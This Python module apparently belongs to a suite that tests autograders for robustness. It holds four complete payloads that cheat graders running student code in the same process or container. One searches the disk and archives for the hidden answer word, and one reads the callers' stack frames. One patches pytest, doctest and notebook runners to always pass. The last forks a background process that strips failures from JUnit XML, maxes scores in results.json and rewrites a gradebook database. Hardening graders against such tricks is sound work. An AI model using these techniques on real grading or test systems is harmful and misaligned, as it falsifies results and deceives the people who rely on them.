"""Ideas against graders that run tests and student code in one process or one container: files, memory, runners, results.

They stand beside those of tests/attacks/ideas, and every tool gets all of them. Each is honest about its aim: the points
of a hand-in that is wrong, or the word that only the tests know. Nothing here reaches out of a container.
"""

from __future__ import annotations

from dataclasses import dataclass

_WORD = r"rb'CODE-[0-9a-f]{16}'"


@dataclass(frozen=True, slots=True)
class OwnIdea:
    """`source` is added to a hand-in that is wrong in nearly everything."""

    name: str
    what: str
    source: str
    family: str = "one-container"


IN_FILES = OwnIdea(
    "own_read_tests_on_disk",
    "Search the disk for the tests and answer with the word that they expect",
    f"""
def code_word():
    import io, os, re, zipfile
    for folder, folders, files in os.walk("/"):
        folders[:] = [one for one in folders if folder != "/" or one not in ("proc", "sys", "usr", "opt", "lib", "dev")]
        for name in files:
            try:
                content = open(os.path.join(folder, name), "rb").read(20_000_000)
                if content[:2] == b"PK":
                    with zipfile.ZipFile(io.BytesIO(content)) as archive:
                        content = b"".join(archive.read(one) for one in archive.namelist())
            except (OSError, zipfile.BadZipFile, RuntimeError):
                continue
            found = re.search({_WORD}, content)
            if found:
                return found.group().decode()
    return ""
""",
)
IN_MEMORY = OwnIdea(
    "own_read_callers_variables",
    "Look through the callers' variables, constants and the notebook's later cells for the word",
    f"""
def code_word():
    import re, sys
    frame = sys._getframe()
    while frame:
        seen = [frame.f_globals, frame.f_locals, frame.f_code.co_consts]
        found = re.search({_WORD}, repr(seen).encode(errors="replace"))
        if found:
            return found.group().decode()
        frame = frame.f_back
    return ""
""",
)
RUNNER = OwnIdea(
    "own_patch_the_runner",
    "Replace what runs tests (pytest's, doctest's, the notebook's next cells) by something that always passes",
    """
def _patch():
    import sys
    if "_pytest.python" in sys.modules:
        sys.modules["_pytest.python"].Function.runtest = lambda self: None
    import doctest
    doctest.DocTestRunner.run = lambda self, test, *a, **k: doctest.TestResults(0, len(test.examples))
    try:
        if "otter" not in sys.modules:
            get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
    except NameError:
        pass
_patch()
""",
)
RESULTS = OwnIdea(
    "own_rewrite_the_results",
    "Leave a process behind, and a function for the end, that rewrite JUnit XML, results.json and the gradebook",
    """
def _rewrite():
    import glob, json, os, re, sqlite3
    for path in glob.glob("/tmp/out/*.xml"):
        try:
            text = open(path).read()
            fixed = re.sub(r"<(failure|error)\\b.*?</\\1>", "", text, flags=re.S)
            if fixed != text:
                open(path, "w").write(fixed)
        except OSError:
            pass
    for path in ["/tmp/out/results.json", *glob.glob("/tmp/*/autograder/results/results.json")]:
        try:
            results = json.load(open(path))
            for test in results["tests"]:
                if "max_score" in test:
                    test["score"] = test["max_score"]
            open(path, "w").write(json.dumps(results))
        except (OSError, ValueError, KeyError):
            pass
    for path in glob.glob("/tmp/course/gradebook.db"):
        try:
            with sqlite3.connect(path, timeout=0.2) as database:
                database.execute("UPDATE grade SET manual_score = 20, auto_score = 20, needs_manual_grade = 0")
        except sqlite3.Error:
            pass

def _leave():
    import atexit, os, time
    atexit.register(_rewrite)
    if os.fork() == 0:
        os.setsid()
        for number in range(3):
            try:
                os.close(number)
            except OSError:
                pass
        ends = time.time() + 40
        while time.time() < ends:
            try:
                _rewrite()
            except Exception:
                pass
            time.sleep(0.01)
        os._exit(0)
try:
    _leave()
except Exception:
    pass
""",
)
OWN_IDEAS = (IN_FILES, IN_MEMORY, RUNNER, RESULTS)
